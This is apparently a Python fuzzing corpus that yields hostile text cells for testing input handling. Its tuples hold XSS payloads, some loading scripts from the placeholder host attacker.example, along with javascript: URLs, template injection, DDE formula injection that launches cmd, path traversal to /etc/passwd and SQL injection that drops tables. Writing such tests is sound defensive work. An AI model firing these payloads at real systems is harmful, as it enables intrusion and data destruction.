"""Cells that attack: markup, scripts, formulas, templates, strange letters, confusable names. The same for one seed."""

import random
from collections.abc import Iterator

ABROAD = "attacker.example"
HIT = "hit(1)"
"""What every script of the corpus would do, if any browser ran one."""

MARKUP = (
    f"<script>{HIT}</script>",
    f"<ScRiPt/x>{HIT}</sCrIpT>",
    f'"><script src="//{ABROAD}/a.js"></script>',
    f"</title></style></textarea></script><script>{HIT}</script>",
    f"<img src=x onerror={HIT}>",
    f"<img/src='x'/onerror='{HIT}'/>",
    f'<img src="https://{ABROAD}/pixel.png">',
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<iframe src=javascript:{HIT}></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
    f"<object data='//{ABROAD}/x.swf'></object>",
    f"<embed src='//{ABROAD}/x'>",
    f"<link rel=stylesheet href=//{ABROAD}/x.css>",
    f"<meta http-equiv=refresh content='0;url=//{ABROAD}/'>",
    f"<base href=//{ABROAD}/>",
    f"<form action=//{ABROAD}/><input type=submit autofocus onfocus={HIT}>",
    f"<details open ontoggle={HIT}>x",
    f"<video><source onerror={HIT}>",
    f"<body onload={HIT}>",
    f"<a href='javascript:{HIT}'>click</a>",
    f"<style>@import '//{ABROAD}/x.css'; * {{display: none}}</style>",
    f"<template><img src=x onerror={HIT}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
    f"<!--><img src=x onerror={HIT}>-->",
    f"<![CDATA[<script>{HIT}</script>]]>",
    f"<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml' onclick='{HIT}'/>",
    "<b>bold</b> <i>pseudo</i> <br> <sup>2</sup>",
    "<x y=<z>>",
    "&lt;script&gt;",
    "&#60;img src=x&#62;",
    "&amp;amp;",
    "&nbsp;&zwnj;&quot;",
    "AT&T <sales@acme> R&D",
)
BREAKOUTS = (
    f'" onmouseover="{HIT}" x="',
    f"' onfocus='{HIT}' autofocus tabindex=1 x='",
    f"` onclick={HIT} `",
    f'"]; {HIT}; //',
    f'\\"; {HIT}; //',
    f"'-{HIT}-'",
    f"</script><svg/onload={HIT}>",
    "]]>",
    "*/ } body { display: none } /*",
    "\\",
    '"',
    "'",
    "''",
    '""',
)
ADDRESSES = (
    f"javascript:{HIT}",
    f"JaVaScRiPt:{HIT}",
    f" javascript:{HIT}",
    f"java\tscript:{HIT}",
    f"\x01javascript:{HIT}",
    f"javascript&colon;{HIT}",
    f"javascript://%0a{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f"vbscript:{HIT}",
    f"//{ABROAD}/",
    f"https://{ABROAD}/?a=b&c=d#e",
    f"/\\{ABROAD}/",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "..",
    ".",
    "/",
    "a/b",
    "a.b.done",
    "a.done",
    "done",
    "100%",
    "%2e%2e%2f",
    "%00",
    "%zz",
    "a?b=c&open=d#e",
    "a+b c",
    "a;b,c|d",
)
TEMPLATES = (
    "{{7*7}}",
    "{{constructor.constructor('hit(1)')()}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}",
    "%{x}",
    "%{customdata[0]}<extra></extra>",
    "%s%s%n",
    "{0} {name} {{}}",
    "[[7*7]]",
    "$eval('hit(1)')",
    f"[markdown](javascript:{HIT})",
    f"![image](//{ABROAD}/x.png)",
    "# heading",
    "| a | b |",
    "**bold** __under__ ~~gone~~",
    "`code`",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("//attacker.example/";"click")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"1")',
    "+1+1",
    "+49 30 123456",
    "-1+1",
    "-4",
    "−4",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "'=1+1",
    "'",
    "''",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "x;=1+1",
    "x,=1+1",
    "x\n=1+1",
    "x\t=1+1",
    '"=1+1"',
    '",=1+1,"',
    "{=1+1}",
    "_x0041_ _x000D_",
)
LETTERS = (
    "\u202egnirts desrever\u202c",
    "\u202e\u2066abc",
    "\u2067\u05e9\u05dc\u05d5\u05dd\u2069 (12)",
    "\u200f\u200e\u061c",
    "\u2069\u2069\u202c\u202c",
    "مرحبا بالعالم",
    "שלום 123 עולם",
    "a\u200bb",
    "a\u200db\u200c",
    "\ufeffbom",
    "a\u00adb",
    "\u2060",
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽",
    "🇧🇷🇩🇪",
    "e\u0301 é",
    "Z" + "\u0300\u0301\u0302\u0303" * 12 + "algo",
    "\u0345\u0301",
    "ﷺﷺﷺ",
    "𝒮𝓂𝒶𝓇𝓀",
    "İstanbul ıspanak",
    "ß ẞ ſ K",
    "ǅ ǆ Ǆ",
    "Straße",
    "\x7f",
    "\x1b[31mred\x1b[0m",
    "\x01\x02\x1f",
    "\x08\x08\x08",
    "\x85",
    "a\r\nb",
    "a\nb",
    "a\rb",
    "a\u2028b\u2029c",
    "a\x0bb\x0cc",
    "\ufffe",
    "\uffff",
    "\ufffd",
    "\U0010ffff",
    "\ue000",
)
LOOKALIKES = (
    "web",
    "Web",
    "WEB",
    "web ",
    " web",
    "  web  ",
    "web\t",
    "web\u00a0",
    "web\u3000",
    "web\u200b",
    "w\u0435b",
    "ｗｅｂ",
    "caf\u00e9",
    "cafe\u0301",
    "CAF\u00c9",
)
NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "null",
    "None",
    "undefined",
    "NaN",
    "true",
    "false",
    "0",
    "-0",
    "1",
    "01",
    "1.0",
    "1e5",
    "1,234.50",
    "1.234,50",
    "$5",
    "12 %",
    "0x1F",
    "∞",
    "١٢٣",
    "2026-11-18",
    "18/11/2026",
    "11-18",
    "Nov 18",
    "2026-W47",
    "12:30",
    "1900-01-01T00:00:00Z",
    "counted",
    "duplicate",
    "no team",
    "left out",
    "not yet happened",
    "loaded later",
    "high",
    "LOW",
    "a" * 120,
    "a" * 121,
    "b" * 130 + "1",
    "b" * 130 + "2",
    "wide " * 100,
    "W" * 5000,
    "é" * 3000,
    "👍" * 500,
    "select * from leads; drop table leads; --",
    "' OR '1'='1",
    "'; DELETE FROM leads; --",
    ":named %(bound)s ? $1",
    "\\x00\\xff",
    "C:\\temp\\new",
)
KINDS = (MARKUP, BREAKOUTS, ADDRESSES, TEMPLATES, FORMULAS, LETTERS, LOOKALIKES, NAMES)
WITH_NUL = ("\x00", "a\x00b", "a\x00", f"\x00<script>{HIT}</script>")
"""PostgreSQL has no place for these."""
HUGE = ("<b>&" * 262_144, "\u202e" + "m\u00fc" * 524_288)
"""A million letters, and two."""
NO_TEXT = (b"\xff", b"caf\xe9", b"\xed\xa0\x80", b"\xc0\xaf", b"a\xf0\x9f", b"=\xff", b"<script>hit(1)</script>\x80")
"""Bytes that are not UTF-8: a lone surrogate, an overlong slash, half an emoji, another encoding."""


def cells(seed: int) -> Iterator[str]:
    """Yield cells without end, no two alike: first every one of the corpus, then more made of them."""
    dice = random.Random(seed)
    told = list(dict.fromkeys(one for kind in KINDS for one in kind))
    dice.shuffle(told)
    yield from told
    seen = set(told)
    while True:
        made = "".join(_mixed(dice, told))[:6000]
        if made not in seen:
            seen.add(made)
            yield made


def _mixed(dice: random.Random, told: list[str]) -> Iterator[str]:
    """Yield the parts of a cell made of one or two others, with something small before, between or after."""
    small = ("", " ", "\u200b", "'", '"', "<", ">", "=", "\u202e", "\n", ".", str(dice.randrange(10_000)))
    yield dice.choice(small)
    yield dice.choice(told)
    yield dice.choice(small)
    if dice.random() < 0.4:
        yield dice.choice(told)
    yield dice.choice(small)
